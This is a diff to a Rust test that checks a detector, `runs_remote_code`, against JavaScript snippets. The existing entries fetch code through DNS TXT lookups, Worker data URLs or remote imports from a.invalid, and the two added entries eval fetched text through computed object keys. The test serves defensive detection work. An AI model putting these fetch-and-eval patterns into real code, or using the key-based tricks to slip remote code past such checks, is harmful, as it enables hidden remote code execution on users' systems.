@@ -32,6 +32,8 @@ fn what_all_code_sees_or_an_error_carries_keeps_where_it_comes_from() {
         "require('dns').promises.resolveTxt('a.invalid').then(r => eval(r[0].join('')))",
         "const { Worker } = require('worker_threads'); TEXT.then(t => new Worker(new URL('data:text/javascript,' + t)))",
         "import('https://a.invalid/b')",
+        "TEXT.then(t => { const o = { [t]: 1 }; for (const k in o) eval(k) })",
+        "TEXT.then(t => eval(Object.keys({ [t]: 1 })[0]))",
     ] {
         assert!(runs_remote_code(code), "{code}");
     }
